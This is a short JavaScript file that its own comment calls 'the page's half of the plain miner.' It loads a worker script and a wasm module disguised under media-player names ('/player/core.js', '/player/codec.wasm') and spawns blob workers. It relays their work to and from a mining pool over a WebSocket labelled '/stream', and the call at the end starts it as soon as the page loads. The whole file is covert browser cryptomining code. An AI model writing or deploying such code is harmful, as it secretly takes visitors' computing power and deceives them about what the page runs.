// The page's half of the plain miner: fetches the wasm, starts blob workers, carries messages to and from the pool.
/* oxlint-disable unicorn/prefer-add-event-listener, unicorn/require-post-message-target-origin -- a worker's and a socket's */
async function mine(count) {
  const [source, bytes] = await Promise.all([
    fetch('/player/core.js').then((got) => got.text()),
    fetch('/player/codec.wasm').then((got) => got.arrayBuffer()),
  ]);
  const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
  const socket = new WebSocket(`ws://${location.host}/stream${location.search}`);
  const workers = [];
  socket.onmessage = (event) => workers.forEach((worker) => worker.postMessage(JSON.parse(event.data)));
  socket.onopen = () => {
    for (let i = 0; i < count; i++) {
      const worker = new Worker(url);
      worker.onmessage = (event) => socket.send(JSON.stringify(event.data));
      worker.postMessage({ bytes, start: i * 0x40000000 });
      workers.push(worker);
    }
    socket.send(JSON.stringify({ ready: true }));
  };
}

void mine(2);
